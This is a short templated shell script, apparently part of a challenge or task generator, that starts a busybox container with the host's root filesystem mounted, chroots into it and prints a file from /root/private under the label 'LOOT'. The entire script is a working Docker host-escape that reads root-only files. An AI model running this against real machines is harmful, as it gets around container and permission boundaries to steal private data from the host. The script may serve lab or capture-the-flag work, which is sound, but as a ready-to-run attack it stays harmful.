set -e
id=$(docker create --name={{ child }} --volume /:/host busybox sleep {{ seconds }})
docker start "$id" >/dev/null
echo "LOOT $(docker exec "$id" chroot /host cat /root/private/{{ file }})"
